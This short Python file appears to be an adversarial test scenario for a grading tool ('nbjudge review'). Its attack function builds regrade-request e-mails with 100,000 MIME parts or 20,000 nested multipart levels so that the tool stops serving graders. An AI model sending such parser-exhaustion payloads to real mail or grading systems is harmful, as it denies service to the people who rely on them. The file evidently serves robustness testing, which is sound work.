"""An e-mail that asks for a regrade has a hundred thousand parts, and another is nested deeply.

Success: `nbjudge review` does not serve the graders.
"""

HEAD = "Content-Type: multipart/mixed; boundary=b{0}\n\n--b{0}\n"


def attack(submission):
    part = "--b0\nContent-Type: text/html\n\nx\n"
    submission.mail(f"{submission.student}-many.eml", HEAD.format(0) + part * 100_000)
    nested = "".join(map(HEAD.format, range(20_000)))
    submission.mail(f"{submission.student}-deep.eml", nested)
